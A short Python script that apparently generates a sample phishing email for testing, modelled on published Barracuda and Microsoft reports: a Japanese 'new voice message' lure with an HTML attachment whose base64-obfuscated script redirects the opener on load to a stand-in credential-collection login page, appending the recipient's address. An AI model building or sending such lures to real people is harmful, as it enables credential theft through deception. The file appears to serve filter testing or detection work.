"""A page that leads elsewhere as soon as it is opened, with the reader's address in it.
Scenario: Barracuda, 2023-05; Microsoft, 2021-08-12."""
import base64
from kit import *


def make():
    url, to = (base64.b64encode(x).decode() for x in (b"https://login.collect.example.net/common/", b"soumu@example.co.jp"))
    page = ("<!DOCTYPE html><html><head><title></title></head><body><script>var m='%s';"
            "setTimeout(function(){window.location.href=atob('%s')+'#'+m},300)</script></body></html>" % (to, url))
    return (Mail("未読のボイスメッセージがあります", "voice@telecom.example.com", name="Voice", date="Tue, 14 Mar 2023 08:00:00 +0000")
            .text("新しいボイスメッセージ（0:34）が届いています。添付を開いてご確認ください。\n")
            .attach("VM_0334.htm", page.encode(), "text/html").bytes())
